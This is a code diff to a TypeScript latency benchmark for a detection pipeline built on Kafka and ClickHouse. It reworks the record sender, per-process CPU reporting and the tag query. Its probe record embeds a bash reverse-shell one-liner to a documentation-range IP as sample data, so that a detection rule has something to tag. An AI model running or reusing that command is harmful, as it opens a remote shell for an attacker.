@@ -9,10 +9,11 @@
 
 import { setTimeout } from 'node:timers/promises'
 import type { ClickHouseClient } from '@clickhouse/client'
-import type { Producer } from 'kafkajs'
 import { createClickHouse } from '../cli/clickhouse.ts'
+import { encodeBatch } from '../test/brokers/record-batch.ts'
 import { peakRssMb } from '../test/process-figures.ts'
-import { connectProducer, cpuOf, type EngineSettings, type Stack, send } from './pipeline-stack.ts'
+import { PreparedSender } from './pipeline-sender.ts'
+import { cpuOf, type EngineSettings, type Stack } from './pipeline-stack.ts'
 import { stepsBetween, stepsOf } from './pipeline-steps.ts'
 
 export interface Pace {
@@ -42,13 +43,14 @@ export async function paced(
 ): Promise<readonly string[]> {
   const engine = await stack.startEngine(settings)
   const clickhouse = createClickHouse(stack.dev.config)
-  const producer = await connectProducer(stack.dev)
+  const perTick = Math.max(1, Math.round((pace.perSecond * tickMs) / 1000))
+  const sender = await PreparedSender.connect(stack.dev.kafka, lines, perTick)
   try {
-    await send(producer, 0, [probeRecord('first')])
+    await sender.send(0, probeBatch('first'))
     while (!(await isTagged(clickhouse, 'first'))) await setTimeout(askAgainMs)
     const probes: Probe[] = []
-    const cpu = () => [cpuOf([engine.pid]), cpuOf(stack.servers)] as const
-    const sending = sendPaced(producer, lines, pace, probes)
+    const cpu = () => [engine.pid, ...stack.servers, process.pid].map((pid) => cpuOf([pid]))
+    const sending = sendPaced(sender, pace, probes)
     const reading = readProbes(clickhouse, probes, sending)
     await setTimeout(pace.coldSeconds * 1000)
     const before = cpu()
@@ -63,34 +65,30 @@ export async function paced(
     return [
       `paced at ${pace.perSecond} events/s (sent ${achieved}/s): tag readable after ${quantiles(latencies, false)}`,
       `  in the first ${pace.coldSeconds} s ${quantiles(latencies, true)}`,
-      `  after them the engine took ${shares[0]} % of a core, broker and ClickHouse ${shares[1]} %; peak memory ${Math.round(peakRssMb(engine.pid))} MB`,
+      `  after them of a core: engine ${shares[0]} %, servers ${shares.slice(1, -1).join(' and ')} %, this ${shares.at(-1)} %; peak memory ${Math.round(peakRssMb(engine.pid))} MB`,
       `  steps of a block after them: ${steps}`,
     ]
   } finally {
-    await producer.disconnect()
+    sender.close()
     await clickhouse.close()
   }
 }
 
 /** Resolves to the rate that was kept. */
 async function sendPaced(
-  producer: Producer,
-  lines: readonly string[],
-  { perSecond, seconds, coldSeconds }: Pace,
+  sender: PreparedSender,
+  { seconds, coldSeconds }: Pace,
   probes: Probe[],
 ): Promise<number> {
-  const perTick = Math.max(1, Math.round((perSecond * tickMs) / 1000))
   const begunMs = performance.now()
   const passedMs = () => performance.now() - begunMs
   let sent = 0
   for (let tick = 0; passedMs() < seconds * 1000; tick += 1) {
-    const at = sent % (lines.length - perTick)
-    const portion = lines.slice(at, at + perTick)
-    const id = tick % probeTicks === 0 ? `probe-${tick}` : null
     const partition = tick % 2
-    await send(producer, partition, id === null ? portion : [...portion, probeRecord(id)])
-    sent += portion.length
-    if (id !== null) {
+    sent += await sender.sendNext(partition)
+    if (tick % probeTicks === 0) {
+      const id = `probe-${tick}`
+      await sender.send(partition, probeBatch(id))
       const isCold = passedMs() < coldSeconds * 1000
       probes.push({ id, partition, isCold, sentMs: performance.now() })
     }
@@ -140,18 +138,37 @@ function quantiles(latencies: readonly Latency[], isCold: boolean): string {
   return `p50 ${quantile(0.5)} ms, p95 ${quantile(0.95)} ms, p99 ${quantile(0.99)} ms over ${sorted.length} probes`
 }
 
-/** A record that a shipped rule tags, told apart by its session. */
-function probeRecord(id: string): string {
+/** One record that a shipped rule tags, told apart by its session. */
+function probeBatch(id: string): Buffer {
   const command_text = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'
-  return JSON.stringify({ kind: 'command', host: 'bench', session_id: id, command_text })
+  const record = { kind: 'command', host: 'bench', session_id: id, command_text }
+  return encodeBatch({ values: [JSON.stringify(record)] })
 }
 
+/**
+ * Asks the table behind the view until it has the session, and then the view: planned anew each time, the view alone
+ * would take a quarter of a core.
+ */
 async function isTagged(clickhouse: ClickHouseClient, session: string): Promise<boolean> {
-  const answer = await clickhouse.query({
-    query: 'SELECT * FROM session_seen(session_id = {id:String}, at_s = {at:Float64})',
-    query_params: { id: session, at: Date.now() / 1000 },
-    format: 'JSONEachRow',
-  })
-  const [row] = await answer.json<{ seen: boolean }>()
+  const [found] = await ask<{ tags: number }>(
+    clickhouse,
+    "SELECT count() AS tags FROM entity_tags WHERE entity_kind = 'session' AND entity_id = {id:String}",
+    { id: session },
+  )
+  if (found === undefined || found.tags === 0) return false
+  const [row] = await ask<{ seen: boolean }>(
+    clickhouse,
+    'SELECT * FROM session_seen(session_id = {id:String}, at_s = {at:Float64})',
+    { id: session, at: Date.now() / 1000 },
+  )
   return row?.seen === true
+}
+
+async function ask<Row>(
+  clickhouse: ClickHouseClient,
+  query: string,
+  query_params: Readonly<Record<string, unknown>>,
+): Promise<Row[]> {
+  const answer = await clickhouse.query({ query, query_params, format: 'JSONEachRow' })
+  return answer.json<Row>()
 }
